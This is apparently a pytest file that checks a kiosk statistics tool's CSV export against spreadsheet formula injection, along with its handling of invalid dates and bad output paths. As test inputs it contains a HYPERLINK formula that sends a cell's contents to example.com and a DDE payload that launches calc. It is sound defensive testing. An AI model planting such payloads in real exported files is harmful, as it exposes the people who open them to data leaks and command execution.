"""The statistics report under hostile input: titles a spreadsheet would run as formulas
(OWASP "CSV Injection") and date arguments at and beyond the calendar's ends."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest

from kiosk.cli import stats_command
from kiosk.services.report import ItemStats, Report, build_report, csv_text, render_csv
from stats_fixtures import hand_built_events, local_ts, write_events

HOSTILE = {
    "s1": '=HYPERLINK("http://example.com/?leak="&A1,"Klick")',
    "s2": "+30 % Umsatz",
    "p1": "-1",
    "impressum": "@SUM(A1)",
}


@pytest.fixture
def hand_db(tmp_path: Path) -> Path:
    db = tmp_path / "stats.sqlite3"
    write_events(db, hand_built_events())
    return db


def rows_of(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert {len(row) for row in rows} == {5}, "every row keeps its five columns"
    return rows


def test_csv_text_prefixes_what_starts_like_a_formula() -> None:
    for text in ("=1+1", "+30 % Umsatz", "-1", "@SUM(A1)", "\tTab", "\rReturn"):
        assert csv_text(text) == "'" + text
    for text in ("Roboter im Handwerk", "30 % Umsatz", "", "a=b", "2025-W23", "'schon zitiert"):
        assert csv_text(text) == text


def test_titles_that_look_like_formulas_reach_the_csv_as_text(hand_db: Path) -> None:
    rows = rows_of(render_csv(build_report(hand_db, None, None, HOSTILE)))
    labels = {(section, key): label for section, key, label, _metric, _value in rows[1:]}
    assert labels[("story", "s1")] == "'" + HOSTILE["s1"]  # quotes and commas survive the quoting
    assert labels[("story", "s2")] == "'+30 % Umsatz"
    assert labels[("qr_provider", "p1")] == "'-1"
    assert labels[("page", "impressum")] == "'@SUM(A1)"
    for section, key, label, _metric, _value in rows[1:]:
        assert not key.startswith(("=", "+", "-", "@", "\t", "\r")), (section, key)
        assert not label.startswith(("=", "+", "-", "@", "\t", "\r")), (section, label)


def test_recorded_ids_that_look_like_formulas_are_text_too(tmp_path: Path) -> None:
    db = tmp_path / "stats.sqlite3"
    at = local_ts(2026, 3, 2, 11)
    write_events(db, [(at, "session_start", "a", {}),
                      (at + 1, "screen_view", "a", {"screen": "story", "item": "=cmd|' /C calc'!A0", "lang": "de",
                                                    "dwell_s": 4.0}),
                      (at + 2, "filter", "a", {"dimension": "goal", "value": "+goal"})])
    rows = rows_of(render_csv(build_report(db, None, None)))
    keys = {(section, key) for section, key, *_rest in rows[1:]}
    assert ("story", "'=cmd|' /C calc'!A0") in keys and ("goal", "'+goal") in keys


def test_numbers_stay_numbers_even_when_negative() -> None:
    report = Report(since=date(2026, 3, 2), until=date(2026, 3, 2), generated_at=datetime(2026, 3, 3))
    report.stories = [ItemStats("s1", "-1", 3, -5.0)]
    rows = rows_of(render_csv(report))
    assert ["story", "s1", "'-1", "median_dwell_s", "-5.0"] in rows
    assert ["story", "s1", "'-1", "views", "3"] in rows


def run(db, since=None, until=None, fmt="text", out=None):
    o, e = io.StringIO(), io.StringIO()
    code = stats_command(db, since, until, fmt, out, HOSTILE, stdout=o, stderr=e)
    return code, o.getvalue(), e.getvalue()


@pytest.mark.parametrize("since, until", [
    ("0001-01-01", None), (None, "0001-01-01"), (None, "9999-12-31"), ("9999-12-31", None),
    ("0001-01-01", "9999-12-31"), ("1969-12-31", "2026-01-01"), ("2026-02-30", None), ("gestern", None),
    ("30.02.2026", None), ("2026-06-02", "2026-06-01"), ("٢٠٢٦-٠١-٠١", None), ("1" * 5000, None),
])
def test_dates_beyond_the_calendar_are_one_sentence_with_exit_2(hand_db: Path, since, until) -> None:
    code, out, err = run(hand_db, since, until)
    assert (code, out) == (2, "")
    assert err.startswith("kiosk stats: ") and err.count("\n") == 1 and len(err) < 300


@pytest.mark.parametrize("since, until", [("1970-01-01", "2099-12-31"), ("1970-01-01", None), (None, "2099-12-31")])
def test_the_widest_periods_give_a_report(hand_db: Path, since, until) -> None:
    code, out, err = run(hand_db, since, until)
    assert (code, err) == (0, "")
    assert "Sitzungen" in out


def test_out_onto_a_folder_a_missing_folder_or_the_database(hand_db: Path, tmp_path: Path) -> None:
    code, _, err = run(hand_db, out=tmp_path)
    assert code == 2 and "das ist ein Ordner" in err and "bericht.text" in err
    code, _, err = run(hand_db, out=tmp_path / "fehlt" / "bericht.txt")
    assert code == 2 and f"den Ordner {tmp_path / 'fehlt'} gibt es nicht" in err
    before = hand_db.read_bytes()
    code, _, err = run(hand_db, out=hand_db, fmt="csv")
    assert code == 2 and "das ist die Statistik-Datenbank selbst" in err
    assert hand_db.read_bytes() == before
    code, _, err = run(hand_db, out=tmp_path / "nul\0byte.txt")
    assert code == 2 and err.startswith("kiosk stats: kann ")
